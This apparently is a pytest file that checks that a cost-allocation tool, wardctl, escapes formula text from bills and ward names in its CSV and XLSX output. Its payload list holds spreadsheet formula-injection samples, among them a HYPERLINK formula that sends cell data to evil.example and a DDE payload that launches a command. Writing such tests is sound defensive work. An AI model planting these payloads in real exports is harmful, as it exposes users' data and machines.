"""Text from a bill never becomes a live formula: not in the XLSX, not in any CSV wardctl writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.hardening.helpers import RULES, USAGE, edited_bill, wardctl

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "＝1+1"]


def _allocate(tmp_path: Path, payload: str, *extra: str) -> tuple[Path, list[str]]:
    bill = edited_bill(tmp_path / "bill.csv", {"ServiceName": payload, "ResourceName": payload,
                                               "ChargeDescription": payload, "Tags": payload}, rows=range(0, 3))
    return bill, ["cost", "allocate", "--bill", str(bill), "--rules", str(RULES), "--usage", str(USAGE),
                  "--period", "2023-07", *extra]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_focus_csv_output_escapes_formula_text(tmp_path: Path, payload: str) -> None:
    _, args = _allocate(tmp_path, payload)
    out = tmp_path / "split.csv"
    result = wardctl(*args, "--format", "focus", "--out", str(out))
    assert result.exit_code == 0, result.output
    cells = _cells(out.read_text(encoding="utf-8"))
    assert "'" + payload in cells  # shown as the text it was
    assert payload not in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r", "＝")) for c in cells)
    assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit() for c in cells)


def test_numbers_are_not_escaped(tmp_path: Path) -> None:
    _, args = _allocate(tmp_path, "Nova")
    out = tmp_path / "split.csv"
    assert wardctl(*args, "--format", "focus", "--out", str(out)).exit_code == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert all(not r["BilledCost"].startswith("'") for r in rows)


@pytest.mark.parametrize("payload", PAYLOADS[:3])
def test_xlsx_cells_from_input_are_text(tmp_path: Path, payload: str) -> None:
    _, args = _allocate(tmp_path, payload)
    out = tmp_path / "statements.xlsx"
    result = wardctl(*args, "--format", "xlsx", "--out", str(out))
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_xlsx_ward_name_formula_is_text(tmp_path: Path, wards_dir: Path) -> None:
    from tests.hardening.helpers import SAMPLE

    ward = wards_dir / "131016-chiyoda.yaml"
    text = ward.read_text(encoding="utf-8")
    ward.write_text(text.replace("  name: 千代田区", '  name: "=HYPERLINK(\\"http://x\\")"'), encoding="utf-8")
    out = tmp_path / "statements.xlsx"
    result = wardctl("cost", "allocate", *SAMPLE, "--format", "xlsx", "--out", str(out), tenants=wards_dir)
    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]


def test_statement_csv_escapes_ward_names(tmp_path: Path, wards_dir: Path) -> None:
    from tests.hardening.helpers import SAMPLE

    ward = wards_dir / "131016-chiyoda.yaml"
    text = ward.read_text(encoding="utf-8")
    ward.write_text(text.replace("  name: 千代田区", '  name: "=1+2"'), encoding="utf-8")
    result = wardctl("cost", "allocate", *SAMPLE, "--format", "csv", tenants=wards_dir)
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert "=1+2" not in cells and "'=1+2" in cells
